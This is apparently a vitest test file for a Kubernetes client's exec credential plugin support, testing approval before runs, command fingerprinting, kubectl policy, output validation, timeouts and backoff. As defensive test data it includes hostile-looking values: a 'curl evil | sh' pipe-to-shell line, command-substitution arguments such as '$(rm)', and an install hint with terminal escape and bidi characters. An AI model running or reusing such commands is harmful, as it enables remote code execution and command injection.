import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { describe, expect, test, vi } from 'vitest'
import { pluginCredential, type PluginPlace } from '../../../../main/kube/auth/plugin'
import { pluginCommand, type PluginCommand } from '../../../../main/kube/auth/plugin-command'
import type { Surroundings } from '../../../../main/kube/config/access'
import { realClock } from '../../../../main/kube/clock'
import { scratch, stoppedClock } from '../loopback'
import { allowing, execCredential, pluginScript } from './plugins'

const file = '/home/anna/.kube/config'
const printToken = (token: string) => `echo '${execCredential({ token })}'`

const source = (place: Omit<PluginPlace, 'file'>, surroundings: Surroundings, clock = realClock) => pluginCredential({ ...place, file }, surroundings, clock)
const failureOf = (promise: Promise<unknown>) => promise.then(() => expect.unreachable(), (thrown: { failure: { code: string; message: string; remedy?: string; detail?: string } }) => thrown.failure)

describe('nothing runs that was not allowed', () => {
  test('without anybody to ask, and where the answer is no', async () => {
    const folder = scratch()
    const { plugin, runs } = pluginScript(folder, printToken('t'))
    const { environment } = allowing(folder)
    expect(await failureOf(source({ plugin }, { environment }).get())).toMatchObject({ code: 'denied', message: expect.stringContaining('not allowed: login-plugin') })
    expect(await failureOf(source({ plugin }, { environment, mayRun: () => Promise.resolve(false) }).get())).toMatchObject({ code: 'denied' })
    expect(runs()).toBe(0)
  })

  test('who is asked sees all of the command; any change of it is another fingerprint', async () => {
    const [folder, elsewhere] = [scratch(), scratch()]
    const { plugin, path } = pluginScript(folder, printToken('t'), { args: ['a b', '$(rm)'], env: [{ name: 'A', value: '1' }] })
    const asked: PluginCommand[] = []
    const surroundings = allowing(folder, { mayRun: (command) => asked.push(command) > 0 })
    await source({ plugin }, surroundings).get()
    expect(asked[0]).toMatchObject({ command: 'login-plugin', args: ['a b', '$(rm)'], env: [{ name: 'A', value: '1' }], path, file, programSha256: expect.stringMatching(/^[0-9a-f]{64}$/) })

    const { environment } = surroundings
    const fingerprints = new Set([asked[0]?.fingerprint])
    const changed = async (...[entry, place, around]: [typeof plugin, string, Surroundings['environment']]) => {
      const { fingerprint } = await pluginCommand(entry, place, around)
      const isNew = !fingerprints.has(fingerprint)
      fingerprints.add(fingerprint)
      return isNew
    }
    expect(await changed(plugin, file, environment)).toBe(false)
    expect(await changed({ ...plugin, args: ['a', 'b', '$(rm)'] }, file, environment)).toBe(true)
    expect(await changed({ ...plugin, env: [{ name: 'A', value: '2' }] }, file, environment)).toBe(true)
    expect(await changed({ ...plugin, env: [] }, file, environment)).toBe(true)
    expect(await changed(plugin, '/tmp/other', environment)).toBe(true)
    expect(await changed({ ...plugin, command: path }, file, environment)).toBe(true)
    // Another program of that name comes first on PATH.
    writeFileSync(join(elsewhere, 'login-plugin'), readFileSync(path))
    chmodSync(join(elsewhere, 'login-plugin'), 0o755)
    expect(await changed(plugin, file, { ...environment, PATH: `${elsewhere}:${environment['PATH']}` })).toBe(true)
    // The program itself is another one.
    writeFileSync(path, '#!/bin/sh\necho evil\n')
    expect(await changed(plugin, file, environment)).toBe(true)
  })

  test('a script that an interpreter is told to run is part of the command: another text asks again', async () => {
    const folder = scratch()
    const script = join(folder, 'log-in.sh')
    writeFileSync(script, 'echo one\n')
    const { plugin } = pluginScript(folder, printToken('t'))
    const fingerprintOf = async ([command = '', ...args]: readonly string[]) => (await pluginCommand({ ...plugin, command, args }, file, { PATH: `${folder}:/usr/bin:/bin`, HOME: folder })).fingerprint
    const words = [['sh', script], ['sh', 'log-in.sh'], ['env', 'sh', './log-in.sh'], ['login-plugin', script]]
    const before = await Promise.all(words.map(fingerprintOf))
    writeFileSync(script, 'curl evil | sh\n')
    const after = await Promise.all(words.map(fingerprintOf))
    // What a program of its own does with a file (a cache of tokens) is its business.
    expect(after.map((one, at) => one === before[at])).toEqual([false, false, false, true])
  })

  test('folders of PATH that depend on where we stand are passed over', async () => {
    const folder = scratch()
    const { plugin } = pluginScript(folder, printToken('t'))
    expect(await failureOf(pluginCommand({ ...plugin, installHint: 'Get it:\n\u001b[31mcurl evil | sh\u202e' }, file, { PATH: `.:${relative('.', folder)}:` }))).toMatchObject({
      code: 'notFound', remedy: 'The kubeconfig says: Get it: [31mcurl evil | sh',
    })
  })

  test.each([
    ['DenyAll', 'credentialPluginPolicy: DenyAll', false],
    ['AllowAll', 'credentialPluginPolicy: AllowAll', true],
    ['another name on the list', 'credentialPluginPolicy: Allowlist\ncredentialPluginAllowlist: [{name: sh}]', false],
    ['its name on the list', 'credentialPluginPolicy: Allowlist\ncredentialPluginAllowlist: [{name: other}, {name: login-plugin}]', true],
    ['its name as newer versions write it', 'credentialPluginPolicy: Allowlist\ncredentialPluginAllowlist: [{command: login-plugin}]', true],
    ['a file that makes no sense', 'credentialPluginPolicy: Perhaps', false],
    ['a bomb', '['.repeat(100_000), false],
    ['preferences about other things', 'aliases: []', true],
  ])('kubectl’s own policy is honoured: %s', async (_name, text, isAllowed) => {
    const folder = scratch()
    const { plugin, runs } = pluginScript(folder, printToken('t'))
    const kubercFile = join(folder, 'kuberc')
    writeFileSync(kubercFile, text)
    const got = await source({ plugin }, allowing(folder, { kubercFile })).get().then(() => true, ({ failure }) => failure.code !== 'denied')
    expect(got).toBe(isAllowed)
    expect(runs()).toBe(isAllowed ? 1 : 0)
  })
})

describe('the contract of ExecCredential', () => {
  test('the plugin gets its words, its variables, the login shell’s environment and what it asked for, and no terminal', async () => {
    const folder = scratch()
    const { plugin } = pluginScript(folder, `printf '%s\\n' "$1" "$2" "$A" "$FROM_SHELL" > ${folder}/words; printf '%s' "$KUBERNETES_EXEC_INFO" > ${folder}/info; cat > ${folder}/input\n${printToken('abc')}`,
      { args: ['a b', '$(touch x); `id`'], env: [{ name: 'A', value: '"quoted"' }], wantsClusterInfo: true, apiVersion: 'client.authentication.k8s.io/v1' })
    const cluster = { server: 'https://lab:6443', tlsServerName: 'lab.example', isUnverified: true, isUncompressed: false, pluginConfig: { audience: 'lab' } }
    const surroundings = allowing(folder)
    const got = await source({ plugin, cluster, authorities: 'PEM' }, { ...surroundings, environment: { ...surroundings.environment, FROM_SHELL: 'yes' } }).get()
    expect(got).toEqual({ authorization: 'Bearer abc' })
    expect(readFileSync(join(folder, 'words'), 'utf8').split('\n')).toEqual(['a b', '$(touch x); `id`', '"quoted"', 'yes', ''])
    expect(readFileSync(join(folder, 'input'), 'utf8')).toBe('')
    expect(JSON.parse(readFileSync(join(folder, 'info'), 'utf8'))).toEqual({
      apiVersion: 'client.authentication.k8s.io/v1', kind: 'ExecCredential',
      spec: { interactive: false, cluster: { server: 'https://lab:6443', 'tls-server-name': 'lab.example', 'insecure-skip-tls-verify': true, 'certificate-authority-data': Buffer.from('PEM').toString('base64'), config: { audience: 'lab' } } },
    })
  })

  test('v1beta1 and a certificate with its key; nothing about the cluster unless asked for', async () => {
    const folder = scratch()
    const apiVersion = 'client.authentication.k8s.io/v1beta1'
    const { plugin } = pluginScript(folder, `printf '%s' "$KUBERNETES_EXEC_INFO" > ${folder}/info\necho '${execCredential({ clientCertificateData: 'CERT', clientKeyData: 'KEY' }, apiVersion)}'`, { apiVersion })
    const cluster = { server: 'https://lab', isUnverified: false, isUncompressed: false }
    expect(await source({ plugin, cluster }, allowing(folder)).get()).toEqual({ certificate: { certificate: 'CERT', key: 'KEY' } })
    expect(JSON.parse(readFileSync(join(folder, 'info'), 'utf8')).spec).toEqual({ interactive: false })
  })

  test('a version that is not known, and a plugin that needs a terminal, do not run', async () => {
    const folder = scratch()
    const { plugin, runs } = pluginScript(folder, printToken('t'), { installHint: 'use the browser' })
    expect(await failureOf(source({ plugin: { ...plugin, apiVersion: 'client.authentication.k8s.io/v1alpha1' } }, allowing(folder)).get())).toMatchObject({ code: 'unsupported' })
    expect(await failureOf(source({ plugin: { ...plugin, interactiveMode: 'Always' } }, allowing(folder)).get())).toMatchObject({ code: 'unsupported', remedy: expect.stringContaining('use the browser') })
    expect(runs()).toBe(0)
  })

  test.each([
    ['nothing', 'true', /printed nothing/],
    ['a secret that is no JSON', 'echo canary-password', /printed no JSON/],
    ['another kind', `echo '{"kind":"Secret","apiVersion":"v1"}'`, /no ExecCredential/],
    ['another version', `echo '${execCredential({ token: 't' }, 'client.authentication.k8s.io/v1beta1')}'`, /answers in client.authentication.k8s.io\/v1beta1/],
    ['no credential', `echo '${execCredential({})}'`, /neither a token nor a certificate/],
    ['half a credential', `echo '${execCredential({ token: 't', clientCertificateData: 'c' })}'`, /comes with its key/],
    ['a token with a line break', `echo '${execCredential({ token: 'a\nb' }).replaceAll('\\', '\\\\')}'`, /./],
    ['an end that is no time', `echo '${execCredential({ token: 't', expirationTimestamp: 'soon' })}'`, /no time/],
    ['more than it may', 'head -c 3000000 /dev/zero; sleep 100', /printed far too much/],
    ['a complaint', 'echo first >&2; echo "please log in" >&2; exit 3', /failed with code 3/],
    ['a signal', 'kill -TERM $$', /ended by SIGTERM/],
  ])('what comes instead is a sentence: %s', async (_name, body, sentence) => {
    const folder = scratch()
    const failure = await failureOf(source({ plugin: pluginScript(folder, body).plugin }, allowing(folder)).get())
    expect(failure.message).toMatch(sentence)
    expect(['denied', 'invalid']).toContain(failure.code)
    expect(JSON.stringify(failure)).not.toContain('canary-password')
    if (body.includes('please')) expect(failure.detail).toBe('first\nplease log in')
  })

  test('after a minute it is ended with all that it started', async () => {
    const folder = scratch()
    const { plugin } = pluginScript(folder, `sleep 1000 & echo $! > ${folder}/child; echo waiting >&2; wait`)
    const time = stoppedClock()
    const failed = failureOf(source({ plugin }, allowing(folder), time.clock).get())
    await vi.waitFor(() => expect(readFileSync(join(folder, 'child'), 'utf8')).toMatch(/\d\n/), { timeout: 10_000 })
    time.pass(60_000)
    expect(await failed).toMatchObject({ message: expect.stringContaining('did not end within 60 seconds') })
    const child = Number(readFileSync(join(folder, 'child'), 'utf8'))
    await vi.waitFor(() => expect(isRunning(child)).toBe(false), { timeout: 10_000 })
  })
})

/** A process that has ended and that nobody has looked at yet does not run. */
function isRunning(pid: number): boolean {
  if (!existsSync(`/proc/${pid}/stat`)) return false
  return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'))
}

describe('how often it runs', () => {
  test('once for all who wait', async () => {
    const folder = scratch()
    const { plugin, runs } = pluginScript(folder, printToken('t'))
    const credentials = source({ plugin }, allowing(folder))
    const got = await Promise.all(Array.from({ length: 20 }, () => credentials.get()))
    expect(new Set(got).size).toBe(1)
    expect(runs()).toBe(1)
  })

  test('who gives up waiting leaves the run to the others', async () => {
    const folder = scratch()
    const { plugin, runs } = pluginScript(folder, printToken('t'))
    const credentials = source({ plugin }, allowing(folder))
    const impatient = new AbortController()
    const [first, second] = [credentials.get(impatient.signal), credentials.get()]
    impatient.abort(new Error('enough'))
    await expect(first).rejects.toThrow('enough')
    expect(await second).toEqual({ authorization: 'Bearer t' })
    expect(runs()).toBe(1)
  })

  test('again shortly before the end, and not before', async () => {
    const folder = scratch()
    const time = stoppedClock()
    const endsAt = new Date(time.clock.now() + 600_000).toISOString()
    const { plugin, runs } = pluginScript(folder, `echo '${execCredential({ token: 'tRUN', expirationTimestamp: endsAt })}' | sed "s/RUN/$RUN/"`)
    const credentials = source({ plugin }, allowing(folder), time.clock)
    expect(await credentials.get()).toEqual({ authorization: 'Bearer t0' })
    time.pass(569_000)
    expect(await credentials.get()).toEqual({ authorization: 'Bearer t0' })
    time.pass(2_000)
    expect(await credentials.get()).toEqual({ authorization: 'Bearer t1' })
    expect(runs()).toBe(2)
  })

  test('once when it is refused, however many were refused; then there is a pause that grows', async () => {
    const folder = scratch()
    const time = stoppedClock()
    const { plugin, runs } = pluginScript(folder, `echo '${execCredential({ token: 'tRUN' })}' | sed "s/RUN/$RUN/"`)
    const credentials = source({ plugin }, allowing(folder), time.clock)
    const first = await credentials.get()
    expect(await Promise.all([credentials.renew(first), credentials.renew(first)])).toEqual([true, true])
    expect(await credentials.renew(first)).toBe(true)
    expect(runs()).toBe(2)
    for (const [pause, count] of [[5_000, 3], [10_000, 4], [20_000, 5]] as const) {
      const current = await credentials.get()
      time.pass(pause - 1)
      expect(await credentials.renew(current)).toBe(false)
      time.pass(1)
      expect(await credentials.renew(current)).toBe(true)
      expect(runs()).toBe(count)
    }
  })

  test('one that fails is not run again for every request', async () => {
    const folder = scratch()
    const time = stoppedClock()
    const { plugin, runs } = pluginScript(folder, 'exit 1')
    const credentials = source({ plugin }, allowing(folder), time.clock)
    for (let count = 0; count < 10; count += 1) await failureOf(credentials.get())
    expect(runs()).toBe(1)
    time.pass(5_000)
    await failureOf(credentials.get())
    time.pass(5_000)
    await failureOf(credentials.get())
    expect(runs()).toBe(2)
    // A clock that is set back by a day does not make the pause one of a day.
    time.pass(-86_400_000)
    await failureOf(credentials.get())
    expect(runs()).toBe(3)
  })
})
